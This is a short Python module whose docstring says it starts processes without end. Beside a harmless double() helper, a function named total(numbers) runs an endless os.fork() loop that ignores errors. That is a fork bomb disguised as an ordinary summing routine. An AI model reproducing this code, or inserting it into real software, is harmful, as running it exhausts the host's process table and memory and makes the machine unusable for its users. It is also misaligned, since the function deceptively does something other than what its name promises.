"""Starts processes without end, each of which does the same."""

import os


def double(number):
    return 2 * number


def total(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
